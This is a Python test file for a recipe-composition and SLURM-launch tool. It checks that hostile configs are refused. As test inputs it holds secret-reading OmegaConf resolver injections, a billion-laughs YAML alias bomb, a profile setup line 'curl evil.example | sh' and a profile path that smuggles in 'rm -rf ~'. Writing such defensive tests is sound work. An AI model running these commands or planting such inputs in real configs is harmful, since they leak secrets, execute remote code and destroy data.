"""Hostile recipes, sweep files and profiles: recipes are data (only plain key interpolation, checked with OmegaConf's
own grammar), profiles are chosen by name or path and never found in the working directory, YAML aliases cannot
expand a file without bound, and sweeps the grammar cannot expand (or that expand to too many runs) are one line.
Each attack gives one `error[KIND]:` line, exit 2, and writes nothing (no config.yaml, no sweep directory)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

import jobs
from ablate.cli import app
from ablate.compose.overrides import MAX_RUNS
from ablate.compose.recipe import compose_run
from ablate.compose.resources import PROFILES_DIR
from ablate.compose.safe_yaml import MAX_YAML_NODES, check_yaml, interpolation_problem
from ablate.config.schema import ConfigErrors
from ablate.errors import ErrorKind
from ablate.launch.slurm import find_profile, load_profile
from jobs import RECIPE, TOY_JOB, refused

RECIPES = RECIPE.parent
SECRET = "hunter2-do-not-store"  # noqa: S105 (a planted value no stored config may hold)
runner = CliRunner()


@pytest.fixture(autouse=True)
def _env(monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", SECRET)


def one_error(res, kind, *culprits: str) -> str:
    """jobs.one_error, and the secret nowhere in the output."""
    assert SECRET not in res.output
    return jobs.one_error(res, kind, *culprits)


def recipes_copy(tmp_path: Path) -> Path:
    """A copy of the shipped recipes folder to plant hostile files in."""
    d = tmp_path / "recipes"
    shutil.copytree(RECIPES, d)
    return d


def sweep_writes_nothing(
    tmp_path: Path, target: Path, *args: str, parts: tuple[str, ...] = (), kind: ErrorKind = ErrorKind.RECIPE
) -> str:
    """`ablate sweep` (a real launch, not a dry run) refuses with one line of `kind` and writes no run, config or
    sweep."""
    root = tmp_path / "sweeps"
    res = runner.invoke(app, ["sweep", str(target), *args, "--root", str(root), "-e", "debug", "--job", TOY_JOB])
    line = one_error(res, kind, *parts)
    assert not root.exists() or not any(root.rglob("*")), sorted(root.rglob("*"))
    return line


def recipe_with(d: Path, name: str, body: str) -> Path:
    p = d / f"{name}.yaml"
    p.write_text("defaults:\n  - base\n  - _self_\n" + body)
    return p


# ---- recipes are data: only plain key interpolation ----


@pytest.mark.parametrize(
    "body",
    [
        "task:\n  name: jsonl\n  path: ${oc.env:SECRET_TOKEN}\n",
        "task:\n  name: jsonl\n  path: \"${oc.decode:'${oc.env:SECRET_TOKEN}'}\"\n",
        "task:\n  name: jsonl\n  path: \"${oc.create:'{a: ${oc.env:SECRET_TOKEN}}'}\"\n",
        # the resolver's name built from another key: the regex check let this through and the secret was stored
        "task:\n  name: jsonl\n  val_path: oc.env\n  path: ${${task.val_path}:SECRET_TOKEN}\n",
        # a key built from another interpolation
        "task:\n  name: jsonl\n  val_path: generations\n  path: ${batch.${task.val_path}}\n",
        # escaped: config.yaml would hold `${oc.env:...}` for the next reader to resolve
        "task:\n  name: jsonl\n  path: \\${oc.env:SECRET_TOKEN}\n",
        # `${` pieced together across keys: each string is harmless alone
        'task:\n  name: jsonl\n  val_path: $\n  path: "${task.val_path}{oc.env:SECRET_TOKEN}"\n',
    ],
    ids=["oc.env", "oc.decode", "oc.create", "nested-name", "nested-key", "escaped", "pieced"],
)
def test_a_recipe_that_interpolates_anything_but_a_key_is_one_line_and_nothing_is_written(tmp_path, body):
    d = recipes_copy(tmp_path)
    evil = recipe_with(d, "evil", body)
    sweep_writes_nothing(tmp_path, evil, parts=(str(evil), "task.path"))
    with refused(ErrorKind.RECIPE, "task.path"):
        compose_run(evil)


def test_a_resolver_in_a_group_option_file_is_refused_whether_or_not_an_arm_uses_it(tmp_path):
    d = recipes_copy(tmp_path)
    (d / "loss" / "evil.yaml").write_text("name: dapo\neps_low: 0.2\neps_high: ${oc.env:SECRET_TOKEN}\n")
    where = f"{d / 'loss' / 'evil.yaml'}:3"
    sweep_writes_nothing(tmp_path, d / "base.yaml", "loss=evil", parts=(where, "${oc.env:SECRET_TOKEN}"))
    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(where, "${oc.env:SECRET_TOKEN}"))  # not even chosen


def test_a_resolver_in_a_defaults_list_is_refused_before_it_picks_an_option(tmp_path):
    """Hydra resolves defaults-list interpolations itself: `loss: ${oc.env:X}` chose an option by the secret and
    printed it in the 'no such option' error."""
    d = recipes_copy(tmp_path)
    evil = d / "evil.yaml"
    evil.write_text("defaults:\n  - base\n  - override loss: ${oc.env:SECRET_TOKEN}\n  - _self_\n")
    sweep_writes_nothing(tmp_path, evil, parts=(str(evil), "defaults[1]", "${oc.env:SECRET_TOKEN}"))


def test_a_resolver_in_a_sweep_files_grid_runs_or_overrides_is_refused(tmp_path):
    for i, (body, where) in enumerate(
        [
            ("grid:\n  task.path: ['${oc.env:SECRET_TOKEN}', b]\n", "grid.task.path[0]"),
            ('grid: ["task.path=${oc.env:SECRET_TOKEN},b"]\n', "grid[0]"),
            ("runs:\n  - ['task.path=${oc.env:SECRET_TOKEN}']\n", "runs[0][0]"),
            ("overrides: ['task.path=${${task.val_path}:SECRET_TOKEN}', task.val_path=oc.env]\n", "overrides[0]"),
        ]
    ):
        f = tmp_path / f"evil{i}.yaml"
        f.write_text(f"base: {RECIPE}\n{body}")
        sweep_writes_nothing(tmp_path, f, parts=(str(f), where))


@pytest.mark.parametrize(
    "override",
    [
        "task.path=${oc.env:SECRET_TOKEN}",
        "task.path=\\${oc.env:SECRET_TOKEN}",
        "task.path=${oc.env:SECRET_TOKEN},b",  # a sweep value on the command line
        "train.eval_k=${batch.${task.path}}",
    ],
)
def test_a_command_line_override_goes_through_the_same_check(tmp_path, override):
    key = override.partition("=")[0]
    sweep_writes_nothing(tmp_path, RECIPE, override, "task.name=jsonl", parts=(key,))
    res = runner.invoke(app, ["train", str(RECIPE), override, "--run-dir", str(tmp_path / "run")])
    one_error(res, ErrorKind.RECIPE, key)
    assert not (tmp_path / "run").exists()


def test_hydras_own_config_cannot_widen_where_recipes_come_from(tmp_path):
    """hydra.searchpath made Hydra compose option files from any folder, past every check of the recipe folder."""
    outside = tmp_path / "outside" / "loss"
    outside.mkdir(parents=True)
    (outside / "far.yaml").write_text("name: dapo\neps_low: ${oc.env:SECRET_TOKEN}\n")
    search = f"hydra.searchpath=[file://{outside.parent}]"
    sweep_writes_nothing(tmp_path, RECIPE, search, "loss=far", parts=("hydra.searchpath",))
    d = recipes_copy(tmp_path)
    evil = recipe_with(d, "evil", f"hydra:\n  searchpath: [file://{outside.parent}]\n")
    sweep_writes_nothing(tmp_path, evil, "loss=far", parts=(str(evil), "hydra:"))
    evil.unlink()
    (d / "preset" / "evil.yaml").write_text(f"# @package hydra\nsearchpath: [file://{outside.parent}]\n")
    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(str(d / "preset" / "evil.yaml"), "hydra:"))


def test_plain_and_relative_key_interpolations_still_compose(tmp_path):
    d = recipes_copy(tmp_path)
    (d / "loss" / "same.yaml").write_text("name: dapo\neps_low: 0.25\neps_high: ${.eps_low}\n")
    cfg = compose_run(d / "base.yaml", ["loss=same", "train.eval_k=${batch.generations}"])
    assert cfg.loss.eps_high == 0.25 and cfg.train.eval_k == cfg.batch.generations
    assert interpolation_problem("a ${setup.l_max} b ${..x} ${a[0]}") is None
    assert interpolation_problem("no interpolation: $ {x} \\ $x") is None


def test_a_resolver_the_grammar_check_missed_would_still_not_run(monkeypatch):
    """Defence in depth: with the grammar check switched off, composition resolves with no resolver registered, so
    `${oc.env:...}` (or one some library registered) fails instead of reading the environment."""
    from omegaconf import OmegaConf

    import ablate.compose.safe_yaml as safe_yaml
    from ablate.compose.hydra import Composer

    OmegaConf.register_new_resolver("h3_custom", lambda: SECRET, replace=True)
    monkeypatch.setattr(safe_yaml, "interpolation_problem", lambda text: None)
    Composer._memory.clear()
    for value, resolver in (("${oc.env:SECRET_TOKEN}", "oc.env"), ("${h3_custom:}", "h3_custom")):
        # "cannot resolve" tells it from the grammar check's refusal, which names the resolver too
        with refused(ErrorKind.RECIPE, resolver, "cannot resolve") as e:
            compose_run(RECIPE, [f"task.path={value}"])
        assert isinstance(e.value, ConfigErrors) and SECRET not in str(e.value)
    assert OmegaConf.has_resolver("oc.env") and OmegaConf.has_resolver("h3_custom")  # put back afterwards


# ---- YAML alias bombs ----


def laughs(levels: int = 9) -> str:
    """A billion-laughs document: `levels` levels of ten aliases each (10^levels leaves)."""
    lines = ["l0: &l0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_in_a_sweep_file_recipe_option_file_or_profile_is_one_line(tmp_path):
    f = tmp_path / "bomb.yaml"
    f.write_text(f"base: {RECIPE}\n" + laughs())
    sweep_writes_nothing(tmp_path, f, parts=(str(f), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)

    d = recipes_copy(tmp_path)
    r = recipe_with(d, "bomb", "setup:\n" + "".join("  " + ln + "\n" for ln in laughs().splitlines()))
    sweep_writes_nothing(tmp_path, r, parts=(str(r), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)
    r.unlink()
    (d / "loss" / "bomb.yaml").write_text("name: dapo\n" + laughs())  # Composer reads every file of the folder
    bomb = d / "loss" / "bomb.yaml"
    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(str(bomb), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)

    p = tmp_path / "profile.yaml"
    p.write_text("partition: debug\n" + laughs() + "setup: *l8\n")
    with refused(ErrorKind.FILE, str(p), f"{MAX_YAML_NODES:,}"):
        load_profile(str(p))


def test_a_self_referring_alias_is_one_line_and_small_aliases_are_fine(tmp_path):
    with refused(ErrorKind.FILE, "x.yaml", "refers to the node"):  # tells it from an alias bomb
        check_yaml("a: &a [1, *a]\n", "x.yaml")
    f = tmp_path / "ok.yaml"  # anchors that add a few nodes are ordinary YAML
    f.write_text(
        f"base: {RECIPE}\noverrides: &common [optim.lr=1e-4]\n"
        "runs:\n  - {label: a, overrides: *common}\n  - {label: b, overrides: [optim.lr=2e-4]}\n"
    )
    res = runner.invoke(app, ["sweep", str(f), "--dry-run"])
    assert res.exit_code == 0, res.output
    assert check_yaml(laughs(3), "x") is not None  # 10^3 leaves: under the limit


# ---- SLURM profiles are chosen, never found ----


EVIL_PROFILE = "partition: debug\nsetup:\n  - curl evil.example | sh\n"


def test_a_working_directory_profile_is_used_only_when_named_by_path(tmp_path, monkeypatch):
    (tmp_path / "slurm").mkdir()
    (tmp_path / "slurm" / "local.yaml").write_text(EVIL_PROFILE)
    (tmp_path / "slurm" / "mine.yaml").write_text(EVIL_PROFILE)
    monkeypatch.chdir(tmp_path)
    packaged = PROFILES_DIR / "local.yaml"
    for chosen in (None, "local"):
        assert find_profile(chosen) == packaged.resolve()
        assert "curl evil.example | sh" not in load_profile(chosen)["setup"]
    with refused(ErrorKind.RECIPE, "'mine'", "--profile ./slurm/mine.yaml"):
        find_profile("mine")
    for by_path in ("./slurm/local.yaml", "slurm/local.yaml", str(tmp_path / "slurm" / "local.yaml")):
        assert find_profile(by_path) == (tmp_path / "slurm" / "local.yaml").resolve()
        assert "curl evil.example | sh" in load_profile(by_path)["setup"]


def test_the_sbatch_script_names_the_profile_it_came_from(tmp_path):
    from submitit.slurm.slurm import _make_sbatch_string

    own = tmp_path / "cluster.yaml"
    own.write_text("partition: gpu\nsetup: [module load cuda]\n")
    for chosen, path in ((None, PROFILES_DIR / "local.yaml"), ("example-cluster", None), (str(own), own)):
        params = load_profile(chosen)
        text = _make_sbatch_string(command="python -m submitit.core._submit X", folder=tmp_path / "%j", **params)
        named = (path or PROFILES_DIR / f"{chosen}.yaml").resolve()
        assert f"\n# setup\n# ablate profile: {named}\n" in text, text
    assert text.index("# ablate profile:") < text.index("module load cuda") < text.index("# command")


def test_a_profile_path_that_would_break_the_script_comment_is_refused(tmp_path):
    odd = tmp_path / "a\nrm -rf ~\n.yaml"
    odd.write_text("partition: debug\n")
    with refused(ErrorKind.RECIPE, "rm -rf ~", "control characters"):  # tells it from a profile not found
        load_profile(str(odd))


# ---- sweeps the grammar cannot expand, and their size ----


@pytest.mark.parametrize(
    "override, parts",
    [
        # the override, and what in it cannot expand; a short phrase where only that tells one refusal from another
        ("seed=interval(0,1)", ("seed=interval(0,1)", "interval sweep", "choice(a,b)")),
        ("optim.lr=interval(0,1)", ("optim.lr=interval(0,1)", "interval sweep")),
        ("loss=glob(*)", ("loss=glob(*)", "glob sweep", "choice(a,b)")),
        ("loss=tag(x,interval(0,1))", ("loss=tag(x,interval(0,1))", "interval sweep")),
        ("loss=shuffle()", ("loss=shuffle()", "no values")),  # tells it from a sweep inside a sweep
        ("seed=range(0,3),5", ("seed=range(0,3),5", "inside a sweep")),  # tells it from a sweep of no values
        ("batch.prompts=range(8,12,2),16", ("batch.prompts=range(8,12,2),16", "inside a sweep")),
        ("seed=range(0,3,0)", ("seed=range(0,3,0)", "nonzero step")),
        ("optim.lr=range(0,inf)", ("optim.lr=range(0,inf)", "finite bounds")),
        ("seed=range(5,1)", ("seed=range(5,1)", "empty range")),  # tells it from a zero step
        ("seed=range(0,100000000)", ("seed=range(0,100000000)", "100,000,000 runs", f"{MAX_RUNS:,}")),
        ("batch.prompts=range(0,100000000)", ("batch.prompts=range(0,100000000)", "100,000,000 runs")),
        ("optim.lr=range(0,1,1e-300)", ("optim.lr=range(0,1,1e-300)", "1.0e+300 runs")),
    ],
)
def test_a_sweep_the_grammar_cannot_expand_is_one_line(tmp_path, override, parts):
    sweep_writes_nothing(tmp_path, RECIPES / "loss.yaml", override, parts=parts)


def test_a_sweep_files_grid_gets_the_same_checks_and_the_total_is_bounded(tmp_path):
    f = tmp_path / "g.yaml"
    f.write_text(f"base: {RECIPE}\ngrid: ['loss=glob(*)']\n")
    sweep_writes_nothing(tmp_path, f, parts=("loss=glob(*)", "glob sweep"))
    f.write_text(
        f"base: {RECIPE}\ngrid: ['batch.prompts=range(1,101)', 'optim.lr=range(0.01,1.01,0.01)']\nseeds: [0, 1]\n"
    )  # each axis is small; together 100 x 100 arms x 2 seeds
    sweep_writes_nothing(tmp_path, f, parts=(str(f), "10000 arms x 2 seeds", "20,000 runs"))
    sweep_writes_nothing(
        tmp_path, RECIPES / "loss.yaml", "seed=range(0,3000)", parts=("4 arms x 3000 seeds", "12,000 runs")
    )


def test_supported_sweep_functions_still_expand():
    res = runner.invoke(
        app, ["sweep", str(RECIPES / "loss.yaml"), "seed=shuffle(range(0,3))", "optim.lr=sort(3e-4,1e-4)", "--dry-run"]
    )
    assert res.exit_code == 0 and "8 arms x 3 seeds = 24 runs" in res.output, res.output
